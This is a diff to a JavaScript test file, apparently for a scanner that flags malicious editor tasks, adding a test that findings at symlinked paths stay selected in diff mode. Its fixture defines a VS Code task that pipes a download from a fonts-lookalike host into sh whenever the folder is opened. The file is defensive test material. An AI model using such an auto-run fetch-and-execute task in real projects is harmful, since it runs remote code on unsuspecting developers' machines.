@@ -10,6 +10,7 @@ import { foldCase, lexicalPath, platformKey, rolePathOf, windowsPath } from '../
 import { acquireLocal } from '../src/acquire/local.js';
 import { DEFAULT_LIMITS } from '../src/options.js';
 import { isRolePath } from '../src/engine/role-paths.js';
+import { selectForDiff } from '../src/action/diff.js';
 import { scanFolder, tempDir } from './helpers.js';
 
 const TASKS = JSON.stringify({ version: '2.0.0', tasks: [{ label: 's', type: 'shell', command: 'curl -s https://fonts-cdn.vercel.app/x | sh', runOptions: { runOn: 'folderOpen' } }] });
@@ -109,6 +110,19 @@ describe('links presented at their paths', () => {
     const r = await scanFolder(root, { limits: { maxFileBytes: 1024 } });
     assert.equal(r.complete, false);
     assert.ok(r.diagnostics.some((d) => d.code === 'symlink-not-followed' && d.file === 'gone.json' && d.incomplete));
+  });
+
+  it('a finding at a linked path names the link and the target, so a change to either keeps it in diff mode', async () => {
+    const root = tree({ 'config/editor/tasks.json': TASKS }, { '.vscode': 'config/editor' });
+    const r = await scanFolder(root);
+    const f = r.findings.find((x) => x.location.file === '.vscode/tasks.json');
+    assert.ok(f, JSON.stringify(r.findings.map((x) => x.location.file)));
+    const at = f.evidence.map((e) => e.location?.file);
+    assert.ok(at.includes('.vscode') && at.includes('config/editor/tasks.json'), JSON.stringify(f.evidence));
+    for (const changed of ['.vscode', 'config/editor/tasks.json']) {
+      assert.equal(selectForDiff([f], { changed: new Set([changed]), dependencyFiles: new Map() }).length, 1, `kept when only ${changed} changed`);
+    }
+    assert.equal(selectForDiff([f], { changed: new Set(['README.md']), dependencyFiles: new Map() }).length, 0);
   });
 
   it('lookups by name answer as macOS and Windows do when no exact name exists; an exact name wins', async () => {
